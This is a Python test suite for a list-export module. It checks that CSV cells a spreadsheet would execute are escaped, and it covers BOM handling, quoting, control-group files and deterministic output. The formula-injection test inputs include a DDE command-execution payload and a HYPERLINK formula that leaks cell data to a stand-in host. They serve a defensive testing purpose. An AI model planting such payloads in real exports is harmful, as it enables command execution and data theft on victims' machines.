"""List files: what a person's spreadsheet and a machine find in them."""

import csv
import io
from pathlib import Path

import duckdb
import pytest

from destinations.list_files import CONTROL, write_list, write_parquet

COLUMNS = ("list_id", "alert_id", "arm", "priority_rank", "display_name", "net_revenue", "entered_on")
PLAIN = "Plain name"


def build(names: list[str | None], arms: list[str] | None = None) -> duckdb.DuckDBPyConnection:
    """Return a build file with a list of these names in the given arms, worst rank first."""
    con = duckdb.connect()
    con.execute("create schema core")
    con.execute(
        "create table core.list_rows (list_id varchar, alert_id varchar, arm varchar, priority_rank integer, "
        "display_name varchar, net_revenue decimal(18, 4), entered_on date)"
    )
    for at in reversed(range(len(names))):
        row = ("call", f"{at:04d}", (arms or ["treat"] * len(names))[at], at + 1, names[at], -7.25, "2024-02-29")
        con.execute("insert into core.list_rows values (?, ?, ?, ?, ?, ?, ?)", row)
    return con


def written(folder: Path) -> bytes:
    return (folder / "call.csv").read_bytes()


def rows(folder: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written(folder).decode("utf-8-sig"), newline="")))


def parquet(folder: Path, name: str) -> list[tuple[object, ...]]:
    with duckdb.connect() as con:
        return con.execute("from read_parquet(?)", [str(folder / name)]).fetchall()


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+86 138 0013 8000",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.com?leak="&A1,"click")',
        "  =1+1",
        "\t=1+1",
        "\tplain",
        "\r=1+1",
        "\rplain",
        "\n=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
    ],
)
def test_a_cell_that_a_spreadsheet_would_execute_is_text(tmp_path, name):
    write_list(build([name]), "call", tmp_path)
    (row,) = rows(tmp_path)
    assert row["display_name"] == "'" + name
    # A machine reads what was said.
    assert parquet(tmp_path, "call.parquet")[0][COLUMNS.index("display_name")] == name


@pytest.mark.parametrize(
    "name",
    ["O'Neil & Söhne", "a=b", "1-2", "x@example.com", "王伟", "'quoted'", 'say "hi"', "a,b;c", "two\nlines", "☕ café"],
)
def test_other_cells_come_back_as_they_were(tmp_path, name):
    write_list(build([name]), "call", tmp_path)
    (row,) = rows(tmp_path)
    assert row["display_name"] == name


def test_a_negative_number_stays_a_number(tmp_path):
    write_list(build([PLAIN]), "call", tmp_path)
    (row,) = rows(tmp_path)
    assert (row["net_revenue"], row["priority_rank"], row["entered_on"]) == ("-7.2500", "1", "2024-02-29")


def test_the_file_for_people_starts_with_the_mark_that_spreadsheets_need(tmp_path):
    write_list(build(["李雷", "流失预警：请回访"]), "call", tmp_path)
    content = written(tmp_path)
    assert content.startswith(b"\xef\xbb\xbf" + b'"list_id","alert_id"')
    assert content.count(b"\xef\xbb\xbf") == 1
    assert [row["display_name"] for row in rows(tmp_path)] == ["李雷", "流失预警：请回访"]


def test_every_cell_is_quoted_and_a_missing_one_is_empty(tmp_path):
    write_list(build([None, ""]), "call", tmp_path)
    text = written(tmp_path).decode("utf-8-sig")
    head, missing, blank = text.splitlines()
    assert head == ",".join(f'"{column}"' for column in COLUMNS)
    assert missing == '"call","0000","treat","1",,"-7.2500","2024-02-29"'
    assert blank == '"call","0001","treat","2","","-7.2500","2024-02-29"'


def test_who_is_held_out_stands_in_a_file_of_their_own(tmp_path):
    con = build(["a", "b", "c", "d"], ["treat", "control", "treat", "control"])
    assert write_list(con, "call", tmp_path) == 2
    alerts = COLUMNS.index("alert_id")
    assert [row["alert_id"] for row in rows(tmp_path)] == ["0000", "0002"]
    assert [row[alerts] for row in parquet(tmp_path, "call.parquet")] == ["0000", "0002"]
    assert [row[alerts] for row in parquet(tmp_path, f"call.{CONTROL}.parquet")] == ["0001", "0003"]
    assert sorted(file.name for file in tmp_path.iterdir()) == ["call.control.parquet", "call.csv", "call.parquet"]


def test_another_list_is_left_out(tmp_path):
    con = build([PLAIN])
    assert write_list(con, "mail", tmp_path) == 0
    content = (tmp_path / "mail.csv").read_text(encoding="utf-8-sig")
    assert content.splitlines() == [",".join(f'"{column}"' for column in COLUMNS)]
    assert parquet(tmp_path, "mail.parquet") == []


def test_the_same_rows_give_the_same_bytes(tmp_path):
    names = [f"name {at % 13}" for at in range(500)]
    contents = set()
    for attempt in ("first", "second"):
        write_list(build(names), "call", tmp_path / attempt)
        contents.add(tuple(file.read_bytes() for file in sorted((tmp_path / attempt).iterdir())))
    assert len(contents) == 1


def test_a_folder_with_an_apostrophe_is_a_folder(tmp_path):
    folder = tmp_path / "O'Neil"
    folder.mkdir()
    write_parquet(duckdb.connect(), "select 1 as one", folder / "one.parquet")
    assert parquet(folder, "one.parquet") == [(1,)]
